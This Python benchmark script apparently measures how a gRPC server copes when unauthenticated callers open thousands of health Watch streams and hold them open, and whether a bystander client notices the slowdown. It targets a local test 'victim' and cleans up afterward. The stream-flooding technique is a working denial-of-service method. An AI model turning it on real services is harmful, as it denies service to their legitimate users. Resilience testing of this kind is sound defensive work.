"""Callers without a token open health watches and leave them open: how many they get, and what others notice."""

from __future__ import annotations

import asyncio
import sys
from collections import Counter
from typing import Any

import grpc

from benchmarks.attacks.grpc_victim import Bystander, victim

WATCHES = 10_000
PER_CONNECTION = 1_000
AT_ONCE = 250
"""gRPC itself drops calls that come faster than they are taken."""
WATCHED_S = 5.0


async def run(watches: int) -> None:
    with victim() as attacked:
        bystander, codes = Bystander(attacked), Counter[str]()
        channels: list[grpc.aio.Channel] = []
        held: list[Any] = []
        try:
            for first in range(0, watches, PER_CONNECTION):
                options = [("grpc.use_local_subchannel_pool", 1)]
                channels.append(grpc.aio.insecure_channel(attacked.address, options))
                watch = channels[-1].unary_stream("/grpc.health.v1.Health/Watch")
                for _ in range(first, min(first + PER_CONNECTION, watches), AT_ONCE):
                    some = [watch(b"") for _ in range(AT_ONCE)]
                    codes.update(await asyncio.gather(*map(_begun, some)))
                    held += some
            with bystander.watching():
                await asyncio.sleep(WATCHED_S)
        finally:
            for one in held:
                one.cancel()
            for channel in channels:
                await channel.close()
        print(f"watches: {watches:,} asked for, {dict(codes)}; {bystander.noticed()}")


async def _begun(watch: Any) -> str:
    try:
        await asyncio.wait_for(watch.read(), 60)
    except grpc.aio.AioRpcError as error:
        return str(error.code().name)
    except (TimeoutError, asyncio.CancelledError):
        return "no answer"
    return "open"


def main(watches: float = WATCHES) -> None:
    asyncio.run(run(int(watches)))


if __name__ == "__main__":
    main(*map(float, sys.argv[1:2]))
